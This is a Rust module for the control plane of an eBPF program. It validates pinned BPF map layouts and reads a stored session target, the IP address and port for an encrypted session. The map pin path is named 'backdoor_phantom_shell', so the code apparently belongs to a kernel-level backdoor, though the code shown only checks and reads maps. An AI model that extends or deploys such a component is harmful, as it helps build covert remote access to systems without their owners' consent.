//! # Maps
//!
//! Resolution and validation of the maps shared with the kernel program. The
//! kernel program and this control plane can be built and deployed
//! independently; a map is only trusted once its descriptor matches the layout
//! we expect, as reading a map with the wrong layout would corrupt memory.

use std::{fmt, mem, net::SocketAddrV4, path::Path};

use anyhow::{anyhow, Context, Result};
use libbpf_rs::MapCore;
use plain::Plain;
use thiserror::Error;

use crate::helpers::net::endpoint_from_be;

/// Default pin path of the session map.
pub(crate) const SESSION_MAP_PIN: &str = "/sys/fs/bpf/tc/globals/backdoor_phantom_shell";
/// Key of the single session map entry. Please keep in sync with its BPF
/// counterpart.
const SESSION_KEY: u64 = 1;

/// Descriptor of a live map, as reported by the kernel.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub(crate) struct MapDescriptor {
    pub(crate) map_type: u32,
    pub(crate) id: u32,
    pub(crate) name: String,
    pub(crate) key_size: u32,
    pub(crate) value_size: u32,
    pub(crate) max_entries: u32,
}

impl MapDescriptor {
    /// Fetches the descriptor of a map.
    pub(crate) fn from_map(map: &dyn MapCore) -> Result<Self> {
        let info = map
            .info()
            .map_err(|e| anyhow!("Can't get map info: {e}"))?
            .info;

        let name = info
            .name
            .iter()
            .take_while(|&&c| c != 0)
            .map(|&c| c as u8)
            .collect::<Vec<_>>();

        Ok(Self {
            map_type: info.type_,
            id: info.id,
            name: String::from_utf8_lossy(&name).into_owned(),
            key_size: info.key_size,
            value_size: info.value_size,
            max_entries: info.max_entries,
        })
    }

    /// Checks the descriptor against an expected schema. Fields are checked in
    /// a fixed order and the first mismatch is reported.
    pub(crate) fn check(&self, expected: &ExpectedSchema) -> Result<(), SchemaError> {
        let mismatch = |expected: u32, actual: u32| expected != 0 && expected != actual;

        if mismatch(expected.key_size, self.key_size) {
            return Err(SchemaError::KeySize {
                actual: self.key_size,
                expected: expected.key_size,
            });
        }
        if mismatch(expected.value_size, self.value_size) {
            return Err(SchemaError::ValueSize {
                actual: self.value_size,
                expected: expected.value_size,
            });
        }
        if mismatch(expected.max_entries, self.max_entries) {
            return Err(SchemaError::MaxEntries {
                actual: self.max_entries,
                expected: expected.max_entries,
            });
        }
        if mismatch(expected.map_type, self.map_type) {
            return Err(SchemaError::Type {
                actual: self.map_type,
                expected: expected.map_type,
            });
        }

        Ok(())
    }
}

impl fmt::Display for MapDescriptor {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        write!(
            f,
            "BPF map (bpf_map_type:{}) id:{} name:{} key_size:{} value_size:{} max_entries:{}",
            self.map_type, self.id, self.name, self.key_size, self.value_size, self.max_entries
        )
    }
}

/// Expected layout of a map. A zero field means "don't care".
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub(crate) struct ExpectedSchema {
    pub(crate) map_type: u32,
    pub(crate) key_size: u32,
    pub(crate) value_size: u32,
    pub(crate) max_entries: u32,
}

#[derive(Debug, Error, Eq, PartialEq)]
pub(crate) enum SchemaError {
    #[error("map key size ({actual}) mismatch expected size ({expected})")]
    KeySize { actual: u32, expected: u32 },
    #[error("map value size ({actual}) mismatch expected size ({expected})")]
    ValueSize { actual: u32, expected: u32 },
    #[error("map max_entries ({actual}) mismatch expected size ({expected})")]
    MaxEntries { actual: u32, expected: u32 },
    #[error("map type ({actual}) mismatch expected type ({expected})")]
    Type { actual: u32, expected: u32 },
}

/// Opens a map by its pin path.
pub(crate) fn resolve_pinned_map(path: &Path) -> Result<libbpf_rs::MapHandle> {
    libbpf_rs::MapHandle::from_pinned_path(path)
        .with_context(|| format!("Failed to resolve pinned map {}", path.display()))
}

/// Fetches the descriptor of `map` and validates it against `expected`.
pub(crate) fn validate_map(map: &dyn MapCore, expected: &ExpectedSchema) -> Result<MapDescriptor> {
    let desc = MapDescriptor::from_map(map)?;
    desc.check(expected)
        .with_context(|| format!("Map {} (id {}) not compatible", desc.name, desc.id))?;
    Ok(desc)
}

/// Session map value. Please keep in sync with its BPF counterpart.
#[repr(C)]
#[derive(Clone, Copy, Default)]
struct RawSessionTarget {
    active: i32,
    /// Destination address, network byte order.
    dest_ip: u32,
    /// Destination port, network byte order.
    dest_port: u16,
    _pad: u16,
}

unsafe impl Plain for RawSessionTarget {}

/// Endpoint an encrypted session should be opened to, as stored by the kernel
/// program.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) struct SessionTarget {
    pub(crate) active: bool,
    pub(crate) addr: SocketAddrV4,
}

impl From<&RawSessionTarget> for SessionTarget {
    fn from(raw: &RawSessionTarget) -> Self {
        Self {
            active: raw.active != 0,
            addr: endpoint_from_be(raw.dest_ip, raw.dest_port),
        }
    }
}

/// Gives access to the current session target.
pub(crate) trait SessionTargetSource {
    /// Returns the current target, if one was set.
    fn session_target(&self) -> Result<Option<SessionTarget>>;
}

/// Pinned map holding the session target, written by the kernel program.
pub(crate) struct SessionMap {
    map: libbpf_rs::MapHandle,
}

impl SessionMap {
    /// Layout the session map must have.
    pub(crate) fn schema() -> ExpectedSchema {
        ExpectedSchema {
            key_size: mem::size_of::<u64>() as u32,
            value_size: mem::size_of::<RawSessionTarget>() as u32,
            max_entries: 1,
            ..Default::default()
        }
    }

    /// Resolves the session map by its pin path and validates its layout.
    pub(crate) fn open(path: &Path) -> Result<(Self, MapDescriptor)> {
        let map = resolve_pinned_map(path)?;
        let desc = validate_map(&map, &Self::schema())?;
        Ok((Self { map }, desc))
    }
}

impl SessionTargetSource for SessionMap {
    fn session_target(&self) -> Result<Option<SessionTarget>> {
        let raw = match self
            .map
            .lookup(&SESSION_KEY.to_ne_bytes(), libbpf_rs::MapFlags::ANY)?
        {
            Some(raw) => raw,
            None => return Ok(None),
        };

        let mut target = RawSessionTarget::default();
        plain::copy_from_bytes(&mut target, &raw)
            .map_err(|e| anyhow!("Can't read session entry: {e:?}"))?;

        Ok(Some(SessionTarget::from(&target)))
    }
}
